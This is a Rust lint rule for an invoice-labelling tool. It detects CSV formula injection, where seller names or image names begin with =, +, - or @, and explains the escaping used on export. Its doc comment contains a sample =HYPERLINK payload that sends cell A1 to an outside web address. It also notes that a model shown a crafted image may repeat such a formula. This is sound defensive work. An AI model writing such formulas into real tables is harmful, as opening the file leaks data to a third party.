use crate::error::Place;
use crate::findings::{Finding, Severity};

crate::rule! {
    /// ## What it does
    /// Reports a text that a spreadsheet would execute: it begins with `=`, `+`, `-` or `@` of any width, perhaps after spaces or
    /// quotes, or with a tab. A number such as `-12.50` is not a formula. As a seller it is an error; in another column, or as the
    /// name of an image, a warning.
    ///
    /// ## Why is this bad?
    /// Excel, WPS and `LibreOffice` execute such a cell when the table is opened: it can send other cells to a web server or start a
    /// program. No seller is called so. A model that was shown a prepared image can answer with it.
    ///
    /// ## Example
    /// ```csv
    /// image,seller
    /// vat_0002.jpg,"=HYPERLINK(""http://example.com/?""&A1,""有限公司"")"
    /// ```
    ///
    /// ## Use instead
    /// ```csv
    /// image,seller
    /// vat_0002.jpg,北京宇音天下科技有限公司
    /// ```
    ///
    /// ## Fix
    /// Manual: write the seller as it is printed, or rename the image. In the tables that nova-ft writes no such text is
    /// executed: the name of an image has `./` before it, any other text a `'`. Both are removed when nova-ft reads the table.
    pub SPREADSHEET_FORMULA = "LBL030", "spreadsheet-formula", Error, Label, fix None;
}

/// The message about a text.
pub(in crate::labels) fn message(text: &str) -> String {
    format!("a spreadsheet would execute \"{text}\"")
}

/// The finding for a text of a row that is no seller; `column` is where it stands.
pub(in crate::labels) fn found(place: Place, column: &str, text: &str) -> Finding {
    let mut finding = Finding::new(&SPREADSHEET_FORMULA, place.member(column), message(text));
    finding.severity = Severity::Warning;
    finding
}
